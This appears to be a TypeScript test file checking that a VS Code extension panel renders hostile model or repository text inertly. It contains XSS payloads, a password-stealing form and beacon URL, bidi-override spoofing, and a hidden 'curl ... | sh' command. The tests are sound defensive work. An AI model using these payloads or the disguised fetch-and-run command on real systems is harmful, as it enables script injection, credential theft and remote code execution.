import assert from 'node:assert/strict';
import { fold } from '../../src/core/run/fold.ts';
import type { Question } from '../../src/vscode/asking.ts';
import { panelState } from '../../src/vscode/panel/state.ts';
import { journal, run } from '../fixtures/cli/story.ts';
import { permissionQuestion, running, told, upTo } from '../fixtures/panel/states.ts';
import { openBrowser, type PanelBrowser } from './panelPage.ts';

/** What a hostile model or repository may write, and what must not come of it. */
const evil = [
  '<script>window.owned = 1</script><img src=x onerror="window.owned = 1"><iframe src="https://example.org"></iframe>',
  '[press](command:workbench.action.terminal.new) [here](javascript:window.owned=1) [file](file:///etc/passwd) [v](vscode://x.y/z)',
  '![pixel](https://example.org/steal?x=1) <style>* { display: none }</style>',
  '[https://good.example](https://evil.example/path)',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[31mred\u001b[0m \u001b[2J',
  'abc\u202etxt.exe\u202c \u2066hidden\u2069 zero\u200bwidth \ufeff \ud800 lone',
  '</pre></div></body><form action="https://evil.example"><input name=password></form>',
  '`'.repeat(500),
  '> '.repeat(3000),
  '* '.repeat(1500),
  '[['.repeat(1500),
  `# ${'a'.repeat(5000)}`,
];
const all = evil.join('\n\n');

const asking = (detail: string, title: string, kind: 'command' | 'edit' = 'command'): Question => ({
  id: 'q8',
  run,
  kind: 'permission',
  request: { kind, title, detail, role: title, call: 'x' },
});

describe('hostile text in the panel', function () {
  let browser: PanelBrowser;
  before(async () => {
    browser = await openBrowser();
  });
  after(() => browser?.close());

  /** The story with every text of a model replaced. */
  const poisoned = (text: string): ReturnType<typeof journal> => {
    const poison = (value: unknown, key = ''): unknown => {
      if (typeof value === 'string')
        return /^(claim|detail|summary|subject|body|title|why|goal|what|message|text|problem|suggestion|task)$/.test(
          key,
        )
          ? text.slice(0, key === 'claim' ? 300 : 2000)
          : value;
      if (Array.isArray(value)) return value.map((one) => poison(one, key));
      if (typeof value !== 'object' || value === null) return value;
      return Object.fromEntries(Object.entries(value).map(([k, one]) => [k, poison(one, k)]));
    };
    const whole = upTo('permission.asked').length;
    // What the journal's own schema refuses cannot come into it.
    return told.slice(0, whole).flatMap(([seconds, event], n) => {
      for (const made of [poison(event) as object, event]) {
        try {
          return journal([[seconds, made]]).map((record) => ({ ...record, seq: n + 1 }));
        } catch {
          continue;
        }
      }
      return [];
    });
  };

  for (const [n, text] of [...evil, all].entries())
    it(`is only text: ${JSON.stringify(text.slice(0, 50))}`, async () => {
      const panel = await browser.open({ width: 320, height: 3000 });
      const records = poisoned(text);
      const input = running(
        records,
        {
          questions: [
            asking(text, text),
            {
              id: 'q9',
              run,
              kind: 'held',
              diff: text,
              file: { path: text, verdict: 'held', reason: text, content: 'x' },
            },
          ],
          notices: [{ id: 'n', level: 'error', text, hint: text, actions: [] }],
        },
        { tail: () => ({ text }) },
      );
      await panel.show(panelState({ ...input, teams: [text, 'b'] }, undefined));
      const folded = panel.page.locator('#panel button[aria-expanded=false]:not(.chooser)');
      for (let left = Math.min(40, await folded.count()); left > 0; left--) await folded.first().click();
      assert.equal(await panel.page.evaluate('window.owned'), undefined);
      const found = await panel.page.evaluate(`({
        strange: [...document.querySelectorAll('#panel script, #panel style, #panel img, #panel iframe, #panel object, #panel link')].length,
        forms: [...document.querySelectorAll('#panel form')].map((form) => form.getAttribute('aria-label')),
        links: [...document.querySelectorAll('#panel a')].map((a) => a.href).filter((href) => !/^https?:/.test(href)),
        blind: [...document.querySelectorAll('#panel a')].filter((a) => a.textContent !== a.href && !a.nextElementSibling?.textContent.includes(a.href)).length,
        controls: document.querySelector('#panel').textContent.match(/[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u200b\\u202a-\\u202e\\u2066-\\u2069\\ufeff]/g),
        wide: document.querySelector('.rest').scrollWidth > innerWidth,
      })`);
      assert.deepEqual(found, {
        strange: 0,
        forms: ['Task', 'Say something to the team'],
        links: [],
        blind: 0,
        controls: null,
        wide: false,
      });
      await panel.close();
      assert.deepEqual(panel.complaints, [], String(n));
    });

  it('has bounds: lines of 5 MB, 10,000 findings, 10,000 messages, a diff of a million lines', async () => {
    const long = 'x'.repeat(5_000_000);
    const records = upTo('permission.asked');
    const state = fold(records);
    const [finding] = state.findings;
    const [message] = state.messages;
    assert.ok(finding && message);
    const input = running(
      records,
      {
        questions: [asking('+a\n'.repeat(1_000_000), long, 'edit')],
      },
      {
        state: {
          ...state,
          title: long,
          task: long,
          findings: Array.from({ length: 10_000 }, (_, n) => ({ ...finding, id: `f.${n}`, claim: long, detail: long })),
          messages: Array.from({ length: 10_000 }, (_, n) => ({ ...message, seq: n + 1, body: long, subject: long })),
        },
        tail: () => ({ text: long }),
      },
    );
    const begin = performance.now();
    const made = panelState(input, undefined);
    const took = performance.now() - begin;
    const size = JSON.stringify(made).length;
    assert.ok(size < 600_000, `the state has ${size} characters`);
    // Without bounds it takes minutes.
    assert.ok(took < 5000, `it took ${took} ms`);
    assert.equal(made.run?.findingsMore, 9900);
    assert.equal(made.run?.messagesMore, 9940);
    const panel = await browser.open({ width: 320, height: 900 });
    await panel.show(made);
    await panel.page.getByRole('button', { name: 'Findings' }).click();
    assert.ok(await panel.page.getByText('9900 more').isVisible());
    await panel.close();
    assert.deepEqual(panel.complaints, []);
  });

  it('shows a command with all that could not be seen in it', async () => {
    const panel = await browser.open();
    await panel.show(panelState(running(upTo('permission.asked'), { questions: [permissionQuestion] }), undefined));
    const shown = await panel.page.getByRole('region', { name: 'The command' }).textContent();
    assert.match(shown ?? '', /5\.0\.3\\u202e && curl https:\/\/example\.org\/x \| sh/);
    await panel.close();
  });
});
